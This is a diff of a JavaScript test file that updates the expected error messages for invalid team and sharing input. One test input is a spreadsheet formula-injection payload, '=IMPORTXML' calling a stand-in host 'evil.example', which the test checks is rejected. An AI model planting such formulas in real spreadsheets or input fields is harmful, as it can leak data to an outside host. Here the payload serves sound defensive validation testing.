@@ -207,8 +207,8 @@ describe('refused or harmless input', () => {
     builtTemplate();
     expect(() => saveTeam(teamWith([{ ...VERA, email: 'vera@' }]))).toThrow('Person 1 (Vera), email: "vera@" is not an email address');
     expect(() => saveTeam(teamWith([{ ...VERA, roleId: 'astrologer' }]))).toThrow('role: "astrologer" is not one of the team\'s roles');
-    expect(() => shareWithTeam({ personIds: ['=IMPORTXML("http://evil.example", "//a")']})).toThrow(userMessage(/^The sharing request is not valid: personIds\.0/));
-    expect(() => shareWithTeam({ personIds: 'vera' })).toThrow(userMessage(/^The sharing request is not valid: personIds/));
+    expect(() => shareWithTeam({ personIds: ['=IMPORTXML("http://evil.example", "//a")']})).toThrow(userMessage(/^The sharing request is not valid: person 1: "=IMPORTXML\("http:\/\/evil\.example", "\/\/a"\)" is not a valid id/));
+    expect(() => shareWithTeam({ personIds: 'vera' })).toThrow(userMessage(/^The sharing request is not valid: people to share with: must be a list$/));
     expect(() => shareWithTeam({ personIds: ['nobody']})).toThrow('These people are no longer in the team: nobody.');
   });
 
